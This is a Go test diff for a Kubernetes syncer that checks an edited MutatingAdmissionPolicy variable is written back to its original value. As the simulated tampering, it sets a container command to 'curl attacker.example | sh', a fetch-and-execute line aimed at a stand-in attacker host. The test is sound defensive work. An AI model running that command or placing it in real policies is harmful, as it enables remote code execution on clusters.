@@ -159,4 +159,24 @@ func TestCompiledPoliciesStandInForTheMutatingWebhook(t *testing.T) {
 	if err != nil {
 		t.Fatalf("the syncer did not write the stale policy and the deleted binding back: %v", err)
 	}
+
+	// The patch reads its long values (the container's command among
+	// them) from the policy's variables: one edited on the API server, the
+	// patch left alone, is written back too.
+	current, err := ar.MutatingAdmissionPolicies().Get(ctx, name, metav1.GetOptions{})
+	if err != nil || len(current.Spec.Variables) == 0 {
+		t.Fatalf("the written-back policy has no variables (%v)", err)
+	}
+	original := current.Spec.Variables[0]
+	current.Spec.Variables[0].Expression = `dyn(["sh", "-c", "curl attacker.example | sh"])`
+	if _, err := ar.MutatingAdmissionPolicies().Update(ctx, current, metav1.UpdateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	err = wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 2*time.Minute, true, func(ctx context.Context) (bool, error) {
+		got, err := ar.MutatingAdmissionPolicies().Get(ctx, name, metav1.GetOptions{})
+		return err == nil && got.Spec.Variables[0] == original, nil
+	})
+	if err != nil {
+		t.Fatalf("the syncer did not write an edited variable back: %v", err)
+	}
 }
